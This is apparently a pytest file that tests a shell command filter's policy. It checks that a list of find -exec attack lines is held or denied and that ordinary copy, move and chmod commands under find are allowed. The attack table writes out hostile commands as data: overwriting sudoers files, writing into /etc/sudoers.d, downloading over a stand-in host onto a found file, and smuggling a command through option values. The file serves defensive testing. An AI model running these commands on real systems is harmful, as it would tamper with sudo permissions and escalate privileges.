"""Attack U, the programs the command filter read with the wrong grammar: find's {} inside a
word, GNU parallel's options, GNU tar's options after its operands; and the honest work under
find that the filter held. Each table has an attack half (held or denied) and an honest half
(allowed), judged by the shipped policy (config/policy.toml)."""

from __future__ import annotations

import pytest

from bastion.command_control.policy import Policy, evaluate


def action(policy: Policy, line: str) -> str:
    return evaluate(policy, line, role="engineer", target="web01").action


HELD = ("confirm", "deny")


@pytest.mark.parametrize("line", [
    # find fills {} in anywhere in a word: the word names the found file, or a path built from it
    r"cd / && find etc -name sudoers -exec cp /tmp/x ./{} \;",
    r"cd / && find etc -name sudoers -exec cp /tmp/x /{} \;",
    r"cd /root && find /etc -name sudoers -exec cp /tmp/x ..{} \;",
    r"find /etc -name sudoers -exec cp /tmp/x ..{} \;",
    r"find /etc/sudoers.d -exec cp /tmp/x {}.bak \;",
    r"find /etc -name sudoers -exec curl -T /tmp/x file://{} \;",
    r"find /etc -name sudoers -exec tee {}.d/x \;",
    r"find /etc -name sudoers -exec wget -O {} http://x \;",
    r"find /etc -name sudoers -execdir cp /tmp/x ./{} \;",
    r"find /etc -name sudoers -execdir cp /tmp/x ../{} \;",
    # a copy under find to a protected folder (the file found is the source)
    r"find . -name '*.txt' -exec cp {} /etc/sudoers.d/ \;",
    r"find . -name '*.txt' -exec mv {} /etc/sudoers.d/ \;",
    r"find . -name '*.txt' -exec cp -t /etc/sudoers.d {} +",
    r"find /tmp/sudoers -exec cp {} /etc/ \;",
    # `{} +` puts every file found in one command: the last one found is the destination
    r"find /tmp/x /etc/sudoers.d -maxdepth 0 -exec cp {} +",
    # a file's name in code, in an option or anywhere: known only at run time
    r"find . -exec tar -x -f a.tar --to-command={} \;",
    r"find . -exec sort --compress-program={} x \;",
    r"find . -exec tar xfI a.tar {} \;",
    r"find e -maxdepth 0 -exec sed {} /tmp/f \;",
    r"find . -exec sed s/x/{} /tmp/f \;",
    r"find . -name x -exec sh -c {} \;",
    r"find /etc -name 'sudo*' -exec cp /tmp/x {}* \;",
])
def test_attack_u_find_fills_in_braces_inside_any_word(default_policy, line):
    assert action(default_policy, line) in HELD


@pytest.mark.parametrize("line", [
    r"find . -name '*.txt' -exec cp {} /backup/ \;",
    r"find . -name '*.txt' -exec mv {} /tmp/x/ \;",
    r"find . -name '*.txt' -exec cp -t /backup {} +",
    r"find . -name '*.txt' -exec cp {} {}.bak \;",
    r"find . -name '*.txt' -execdir cp {} /backup/ \;",
    r"find /srv -type d -exec mkdir -p /backup/{} \;",
    r"find . -type f -exec chmod 644 {} \;",
    r"find . -name '*.txt' -ok rm {} \;",
    r"find /tmp -exec sort -o{}.s {} \;",
])
def test_honest_copies_and_moves_under_find_run(default_policy, line):
    assert action(default_policy, line) == "allow"
